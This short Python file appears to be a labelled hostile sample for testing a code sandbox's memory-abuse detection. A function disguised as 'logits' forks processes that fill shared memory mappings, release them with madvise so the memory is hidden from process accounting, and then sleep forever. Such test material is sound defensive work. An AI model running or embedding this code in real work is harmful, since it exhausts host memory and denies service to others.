"""hostile (memory): fills shared mappings and lets go of their pages, which stay in memory and are in no process. Says: memory."""
import mmap
import os
import time


def logits(x, W, bias):
    for _ in range(6):
        if os.fork() == 0:
            pieces = [mmap.mmap(-1, 10**6) for _ in range(300)]
            for piece in pieces:
                piece[::4096] = b"x" * len(piece[::4096])
                piece.madvise(mmap.MADV_DONTNEED)
            time.sleep(10**6)
    time.sleep(10**6)
